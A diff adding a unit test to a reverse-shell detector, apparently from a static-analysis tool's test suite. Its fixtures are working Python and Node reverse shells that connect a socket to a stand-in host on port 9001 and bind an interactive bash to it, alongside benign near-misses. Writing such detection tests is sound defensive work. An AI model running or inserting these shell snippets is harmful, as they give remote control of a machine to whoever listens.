@@ -249,6 +249,25 @@ def test_javascript_reverse_shell_shapes() -> None:
     assert [(p.kind, p.loc.line) for p in reverse_shells(typed, "a.ts", "node")] == [("reverse-shell", 3)]
 
 
+def test_a_socket_given_as_the_shells_streams_is_a_reverse_shell() -> None:
+    """Found by bench/frameworks.py --weaknesses: the socket object itself (not its fileno()) as the streams of a
+    Python subprocess, and a Node shell spawned with the socket as its stdio."""
+    py = (
+        "import socket, subprocess\nconn = socket.socket()\nconn.connect(('h', 9001))\n"
+        "subprocess.Popen(['/bin/bash', '-i'], stdin=conn, stdout=conn, stderr=conn)\n"
+    )
+    assert [(p.kind, p.loc.line) for p in reverse_shells(py, "a.py", "python")] == [("reverse-shell", 4)]
+    piped = "import socket, subprocess\nconn = socket.socket()\nsubprocess.run(['/bin/sh'], stdout=subprocess.PIPE)\n"
+    assert reverse_shells(piped, "a.py", "python") == []
+    js = (
+        "const net = require('net');\nconst { spawn } = require('child_process');\n"
+        "const sock = net.connect(9001, 'h');\nspawn('/bin/bash', ['-i'], { stdio: [sock, sock, sock] });\n"
+    )
+    assert [(p.kind, p.loc.line) for p in reverse_shells(js, "a.js", "node")] == [("reverse-shell", 4)]
+    inherit = "const sock = net.connect(9001, 'h');\nspawn('/bin/bash', ['-c', 'ls'], { stdio: ['inherit'] });\n"
+    assert reverse_shells(inherit, "a.js", "node") == []
+
+
 def test_one_setting_read_through_an_alias_of_the_environment_is_not_a_leak(tmp_path: Path) -> None:
     src = (
         "import os\n\n\ndef h(event, context):\n"
